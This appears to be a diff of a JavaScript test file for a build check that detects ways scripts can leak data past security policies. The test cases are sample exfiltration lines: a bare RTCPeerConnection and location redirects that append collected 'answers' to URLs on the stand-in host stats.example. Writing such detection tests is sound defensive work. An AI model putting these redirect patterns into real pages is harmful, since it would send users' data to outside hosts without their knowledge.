@@ -44,7 +44,7 @@ describe("H15 what the build looks for in scripts, which no policy stops", () =>
   it.each([
     "new RTCPeerConnection({iceServers:[]})",
     'location.href="https://stats.example/?a="+answers',
-    "location.assign(`https://stats.example/${answers}`)",
+    ["location.assign(`https://stats.example/$", "{answers}`)"].join(""),
     "window.location = '//stats.example/?a=' + answers",
   ])("is found: %s", (script) => {
     expect(waysOut(script)).not.toEqual([]);
